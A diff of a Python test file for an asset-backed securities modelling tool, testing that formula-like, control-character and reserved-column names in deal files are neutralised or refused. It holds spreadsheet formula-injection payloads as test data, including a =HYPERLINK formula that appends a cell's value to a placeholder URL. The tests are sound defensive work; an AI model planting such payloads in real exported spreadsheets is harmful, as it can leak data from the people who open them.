@@ -21,14 +21,13 @@ import pytest
 import yaml
 
 from abs_model.cli import main
-from abs_model.output.labels import label
 from abs_model.output.safe_text import FORMULA_STARTS, csv_safe, csv_text, is_formula_like
 from tests.reliability._deals import BAITIAO, EXAMPLES
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
 TRANCHES = {"Senior A": "=2+3", "Senior B": "@SUM(1)", "Subordinated": "-1"}
-FEES = {"VAT": "+1", "Trustee": HYPERLINK, "Servicer": "\tServicer"}
-HOSTILE = {"=2+3", "@SUM(1)", "-1", "+1", HYPERLINK, "\tServicer", "=1+1 deal", "=3+4", "\rCNL"}
+FEES = {"VAT": "+1", "Trustee": HYPERLINK, "Servicer": "+Servicer"}
+HOSTILE = {"=2+3", "@SUM(1)", "-1", "+1", HYPERLINK, "+Servicer", "=1+1 deal", "=3+4", "-CNL"}
 
 
 def _hostile_deal(folder: Path, *, tranches: dict[str, str] = TRANCHES) -> Path:
@@ -43,15 +42,19 @@ def _hostile_deal(folder: Path, *, tranches: dict[str, str] = TRANCHES) -> Path:
         t["name"] = tranches.get(t["name"], t["name"])
     for f in doc["fees"]:
         f["name"] = FEES.get(f["name"], f["name"])
-    doc["triggers"][0]["name"] = "\rCNL"
-    for steps in doc["waterfalls"].values():
-        for step in steps:
-            ((kind, body),) = step.items()
-            if kind in ("pay_interest", "pay_principal"):
-                names = body if isinstance(body, list) else body["tranches"]
-                names[:] = [tranches.get(n, n) for n in names]
-            elif kind in ("pay_fee", "pay_tax"):
-                step[kind] = FEES.get(body, body)
+    doc["triggers"][0]["name"] = "-CNL"  # (tab and CR in names are refused on input: test_hostile_deal_files)
+    names = {**tranches, **FEES}
+
+    def rename(node: Any) -> Any:  # every tranche or fee named anywhere in a step, whatever the step
+        if isinstance(node, str):
+            return names.get(node, node)
+        if isinstance(node, list):
+            return [rename(x) for x in node]
+        if isinstance(node, dict):
+            return {k: rename(v) for k, v in node.items()}
+        return node
+
+    doc["waterfalls"] = rename(doc["waterfalls"])
     path = folder / "deal.yaml"
     path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
     return path
@@ -141,21 +144,13 @@ def test_libreoffice_shows_the_text_not_the_result(outputs: Path, tmp_path: Path
 
 @pytest.mark.parametrize("name", ["period", "date"])
 def test_tranche_named_like_a_column_keeps_sheets_whole(tmp_path: Path, name: str) -> None:
-    """Item 7: a tranche named ``period`` used to become the period column of Note_Balances."""
+    """Item 7: a tranche named ``period`` used to become the period column of Note_Balances. Such a
+    name is now refused when the deal is read, naming the reserved columns (the workbook writer
+    also keeps its own columns apart, as a second line of defence)."""
     import abs_model as am
-    from abs_model.output.workbook import write_workbook
 
-    deal = am.load_deal(_hostile_deal(tmp_path, tranches={"Subordinated": name}))
-    res = am.run(deal)
-    path = write_workbook(res, tmp_path / "m.xlsx")
-    ws = openpyxl.load_workbook(path)["Note_Balances"]
-    header = [c.value for c in ws[1]]
-    assert header[:2] == [label("period"), label("date")], header
-    assert header.count(name) == 1 and header[-1] == name, header
-    periods = [ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)]
-    assert periods == list(range(1, len(periods) + 1)), periods
-    last = ws.cell(row=ws.max_row, column=len(header)).value
-    assert last == pytest.approx(float(res.tranches[name]["balance_end"].iloc[-1]), abs=0.005)
+    with pytest.raises(am.DealError, match="reserved for an output column"):
+        am.load_deal(_hostile_deal(tmp_path, tranches={"Subordinated": name}))
 
 
 def test_control_characters_are_written_visibly_not_fatally(tmp_path: Path) -> None:
@@ -165,24 +160,7 @@ def test_control_characters_are_written_visibly_not_fatally(tmp_path: Path) -> N
 
     import abs_model as am
     from abs_model.output.safe_text import printable
-    from abs_model.output.workbook import write_workbook
 
     assert printable("A\x01B\x1b[31m\tC\n") == "A\\x01B\\x1b[31m\tC\n"  # tab and newline are legal
-    res = am.run(am.load_deal(BAITIAO))
-    first = next(iter(res.tranches))
-
-    def ren(name: str) -> str:
-        return "Bad\x1b[31m" if name == first else name
-
-    hostile = dataclasses.replace(
-        res,
-        deal=dataclasses.replace(res.deal, name="Deal\x01", currency="C\x1bNY"),
-        tranches={ren(k): v for k, v in res.tranches.items()},
-        tranche_classes={ren(k): v for k, v in res.tranche_classes.items()},
-        coupons={ren(k): v for k, v in res.coupons.items()},
-        fees={f"{k}\x07": v for k, v in res.fees.items()},
-        triggers={f"{k}\x02": v for k, v in res.triggers.items()},
-    )
-    path = write_workbook(hostile, tmp_path / "ctl.xlsx")
-    texts = {str(c.value) for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows() for c in row if c.value}
-    assert {"Deal\\x01", "C\\x1bNY", "Bad\\x1b[31m"} <= texts
+    with pytest.raises(am.DealError, match="control or invisible characters"):
+        dataclasses.replace(am.load_deal(BAITIAO), name="Deal\x01")  # refused on input (item 10)
